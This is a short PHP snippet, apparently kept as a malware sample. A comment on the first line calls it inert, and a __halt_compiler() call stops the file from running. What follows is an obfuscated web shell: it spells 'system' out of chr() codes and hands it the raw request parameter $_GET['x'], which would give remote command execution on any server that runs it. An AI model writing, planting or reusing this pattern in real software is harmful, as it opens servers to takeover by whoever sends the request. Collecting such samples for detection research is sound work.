<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$xmo = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
$xmo($_GET['x']);
